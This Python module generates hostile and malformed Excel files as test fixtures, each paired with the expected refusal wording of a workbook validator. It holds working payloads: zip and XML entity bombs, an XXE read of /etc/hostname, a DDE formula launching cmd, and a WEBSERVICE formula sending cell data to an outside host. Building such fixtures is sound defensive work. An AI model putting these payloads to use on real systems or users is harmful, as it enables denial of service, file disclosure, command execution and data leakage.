"""Workbooks that nobody should open: each is made by a few lines, small on disk and costly or dangerous to read."""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Final

_SHEET: Final = "xl/worksheets/sheet1.xml"
_MAIN: Final = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATED: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_HEAD: Final = f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN}">'
_BOMB: Final = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "haha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + f']><worksheet xmlns="{_MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row>'
    "</sheetData></worksheet>"
)


def plain() -> bytes:
    """A small workbook with nothing wrong in it."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "Mål"
    sheet.append(["Nummer", "Namn"])
    sheet.append(["1", "Våldet upphör"])
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def changed(parts: dict[str, bytes | str], *, more: dict[str, tuple[str, str]] | None = None) -> bytes:
    """The plain workbook with some parts replaced or added, and in ``more`` text put before a mark of a part."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain())) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name in parts:
                continue
            data = old.read(name)
            if more and name in more:
                mark, text = more[name]
                data = data.replace(mark.encode(), text.encode() + mark.encode(), 1)
            new.writestr(name, data)
        for name, part in parts.items():
            new.writestr(name, part)
    return made.getvalue()


def sheet(cells: str, after: str = "", before: str = "") -> bytes:
    """The plain workbook with other rows, and what stands before and after them."""
    return changed({_SHEET: f"{_HEAD}{before}<sheetData>{cells}</sheetData>{after}</worksheet>"})


def _related(kind: str, target: str) -> bytes:
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{_RELATED}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return changed({"xl/worksheets/_rels/sheet1.xml.rels": rels})


def _forged_size() -> bytes:
    """A part that says it is small and unpacks to 100 MB."""
    data = bytearray(changed({"xl/evil.xml": b"<a>" + b" " * (100 * 1024 * 1024) + b"</a>"}))
    size = (100 * 1024 * 1024 + 7).to_bytes(4, "little")
    while (at := data.find(size)) >= 0:
        data[at : at + 4] = (1000).to_bytes(4, "little")
    return bytes(data)


def _encrypted_parts() -> bytes:
    """An archive whose parts are marked as encrypted."""
    data = bytearray(plain())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := data.find(mark, at + 1)) >= 0:
            data[at + offset] |= 1
    return bytes(data)


def _twice() -> bytes:
    made = io.BytesIO(plain())
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("xl/Worksheets/Sheet1.xml", _HEAD + "</worksheet>")
    return made.getvalue()


def _rows(count: int, columns: int) -> str:
    return _noise() + f"<row>{'<c/>' * columns}</row>" * count


def _noise() -> str:
    """A comment that does not pack, so that what stands beside it may unpack as much as it likes."""
    return f"<!--{os.urandom(60_000).hex()}-->"


def _many_styles() -> bytes:
    return changed({"xl/styles.xml": f'<styleSheet xmlns="{_MAIN}">{_noise()}{"<xf/>" * 3_100_000}</styleSheet>'})


def _compound(stream: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000) + stream.encode("utf-16-le") + bytes(3000)


def _formula(text: str) -> bytes:
    return sheet(f'<row r="7"><c r="B7"><f>{text}</f><v>0</v></c></row>')


def _archive(name: str, content: bytes = b"x") -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(name, content)
    return made.getvalue()


def _with_far_comment() -> bytes:
    return changed({"xl/comments/comment1.xml": f'<comments xmlns="{_MAIN}"><comment ref="XFD1048576"/></comments>'})


_MACRO: Final = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"

FILES: Final[dict[str, tuple[Callable[[], bytes], str]]] = {
    "zipbomb.xlsx": (lambda: sheet("", before=" " * (100 * 1024 * 1024)), "packas upp"),
    "zipbomb-many.xlsx": (
        lambda: changed({f"xl/p{n}.xml": b"<a>" + os.urandom(8000).hex().encode() * 250 + b"</a>" for n in range(14)}),
        "packas upp",
    ),
    "zipbomb-forged-size.xlsx": (_forged_size, "trasig eller avhuggen"),
    "members.xlsx": (lambda: changed({f"xl/p{n}.xml": "<a/>" for n in range(5000)}), "delar"),
    "entity-bomb.xlsx": (lambda: changed({_SHEET: _BOMB}), "dokumenttyp"),
    "entity-bomb-utf16.xlsx": (lambda: changed({_SHEET: _BOMB.encode("utf-16")}), "dokumenttyp"),
    "entity-file.xlsx": (
        lambda: changed({"xl/styles.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'}),
        "dokumenttyp",
    ),
    "picture-in-disguise.xlsx": (lambda: changed({"xl/media/a.png": _BOMB}), "dokumenttyp"),
    "far-cell.xlsx": (lambda: sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), "XFD1048576"),
    "forged-extent.xlsx": (lambda: sheet("", before='<dimension ref="A1:XFD1048576"/>'), "XFD1048576"),
    "far-comment.xlsx": (_with_far_comment, "XFD1048576"),
    "many-rows.xlsx": (lambda: sheet(_rows(400_000, 1)), "A20001"),
    "million-cells.xlsx": (lambda: sheet(_rows(18_000, 200)), "fler än 1500000 celler"),
    "merged.xlsx": (lambda: sheet("", '<mergeCells><mergeCell ref="A1:CV5000"/></mergeCells>'), "sammanfogade"),
    "linked-range.xlsx": (lambda: sheet("", '<hyperlinks><hyperlink ref="A1:XFD9"/></hyperlinks>'), "XFD9"),
    "styles.xlsx": (_many_styles, "fler än 1500000"),
    "long-token.xlsx": (
        lambda: sheet(f'<row r="1"><c r="{os.urandom(5_000_000).hex()}"/></row>'),
        "miljon tecken",
    ),
    "macros.xlsx": (lambda: changed({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "makron"),
    "macro-type.xlsx": (
        lambda: changed(
            {}, more={"[Content_Types].xml": ("</Types>", f'<Override PartName="/x" ContentType="{_MACRO}"/>')}
        ),
        "makron",
    ),
    "macros.xlsm": (plain, "makron"),
    "excel4-macros.xlsx": (lambda: changed({"xl/macrosheets/sheet1.xml": "<a/>"}), "makron"),
    "external-link.xlsx": (lambda: changed({"xl/externalLinks/externalLink1.xml": "<a/>"}), "utanför sig själv"),
    "external-template.xlsx": (lambda: _related("attachedTemplate", "http://example.org/x.dotm"), "utanför sig själv"),
    "external-picture.xlsx": (lambda: _related("image", "file://server/share/x.png"), "utanför sig själv"),
    "connections.xlsx": (lambda: changed({"xl/connections.xml": "<a/>"}), "utanför sig själv"),
    "embedded.xlsx": (lambda: changed({"xl/embeddings/oleObject1.bin": b"\xd0\xcf"}), "utanför sig själv"),
    "dde.xlsx": (lambda: _formula("cmd|' /C calc'!A0"), "Mål!B7"),
    "other-workbook.xlsx": (lambda: _formula("[1]Blad1!A1"), "Mål!B7"),
    "webservice.xlsx": (lambda: _formula('_xlfn.WEBSERVICE("http://example.org/?"&amp;A1)'), "Mål!B7"),
    "encrypted.xlsx": (lambda: _compound("EncryptedPackage"), "lösenord"),
    "encrypted-parts.xlsx": (_encrypted_parts, "lösenord"),
    "old.xls": (lambda: _compound("Workbook"), "gamla format"),
    "text.xlsx": (lambda: "Mål;Åtgärd\n1;Väg\n".encode(), "ingen Excel-arbetsbok"),
    "page.xlsx": (lambda: b"<html><table></table></html>", "ingen Excel-arbetsbok"),
    "empty.xlsx": (lambda: b"", "tom"),
    "cut-off.xlsx": (lambda: plain()[:-600], "avhuggen"),
    "damaged.xlsx": (lambda: plain()[:900] + b"\xff" * 60 + plain()[960:], "avhuggen"),
    "broken-xml.xlsx": (lambda: changed({_SHEET: _HEAD + "<sheetData><row>"}), "giltig XML"),
    "no-sheets.xlsx": (lambda: changed({"xl/workbook.xml": f'<workbook xmlns="{_MAIN}"/>'}), "inga blad"),
    "twice.xlsx": (_twice, "två gånger"),
    "libreoffice.xlsx": (lambda: _archive("mimetype"), "LibreOffice"),
    "word.xlsx": (lambda: _archive("word/document.xml"), "Word"),
    "archive.xlsx": (lambda: _archive("readme.txt"), "zip-arkiv"),
    "~$lock.xlsx": (lambda: b"\x05Anna" + bytes(150), "låsfil"),
}
"""By file name: how the bytes are made, and words of the sentence that refuses it."""


def write(folder: Path) -> list[Path]:
    """Write all of them into a folder."""
    paths = []
    for name, (make, _) in FILES.items():
        path = folder / name
        path.write_bytes(make())
        paths.append(path)
    return paths
